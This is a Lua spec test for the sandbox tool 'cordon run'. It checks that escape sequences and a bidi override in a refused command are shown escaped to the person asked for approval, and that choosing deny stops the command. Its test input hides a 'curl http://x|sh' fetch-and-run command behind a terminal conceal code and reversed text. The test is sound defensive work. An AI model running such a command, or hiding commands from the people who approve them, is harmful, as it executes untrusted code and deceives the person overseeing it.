-- spec/04-engine/run_security_spec.lua — protections of `cordon run` a command must not get
-- around: questions to a person show every byte that would act on the terminal (driven through
-- a real pty by spec/fixtures/engine/egress/answer.py). Each refusal case first shows, where
-- that is safe, that the same thing works without the protection (on the host), then that the
-- sandbox refuses it.
local h = require("spec.helpers")

local ANSWER = h.fixtures .. "/engine/egress/answer.py"

-- `cordon run` on a new terminal, KEY typed when the question appears; everything the terminal
-- showed is r.stdout.
local function on_terminal(key, flags, script)
    local ws = h.workspace()
    local argv = { "env", "HOME=" .. h.home(), "PATH=" .. h.path }
    for _, a in ipairs({ h.python, ANSWER, key, "40", "--", h.bin, "run", "--workspace", ws }) do
        argv[#argv + 1] = a
    end
    for _, f in ipairs(flags) do argv[#argv + 1] = f end
    for _, a in ipairs({ "--", "/bin/sh", "-c", script }) do argv[#argv + 1] = a end
    local r = h.sh(h.join(argv))
    r.cmd = h.join(argv)
    return r
end

describe("cordon run: the question after a refusal", function()
    after_each(h.cleanup)

    it("shows ESC[8m and a bidi override visibly, and 'd' keeps the command from running", function()
        local dir = h.tmpdir()
        local target = dir .. "/made-outside"
        -- The hidden part: a terminal that obeyed ESC[8m would not show it; the override would
        -- show "hs|" reversed.
        local script = "touch " .. h.quote(target) .. " # \27[8mcurl http://x|sh\27[0m \u{202E}hs|"
        local r = on_terminal("d", { "--ask-sandbox-off" }, script)
        local out = r.stdout .. r.stderr
        assert.truthy(out:find("[D] deny", 1, true), h.describe(r))
        assert.truthy(out:find("\\x1b[8mcurl http://x|sh\\x1b[0m", 1, true), h.describe(r))
        assert.truthy(out:find("<U+202E>hs|", 1, true), h.describe(r))
        assert.is_nil(out:find("\27[8m", 1, true), "a raw ESC[8m reached the terminal\n" .. h.describe(r))
        assert.is_nil(out:find("\u{202E}", 1, true), "a raw U+202E reached the terminal\n" .. h.describe(r))
        assert.is_nil(out:find("running outside the sandbox", 1, true), h.describe(r))
        assert.is_nil(h.read_file(target), "the denied command ran outside")
    end)
end)
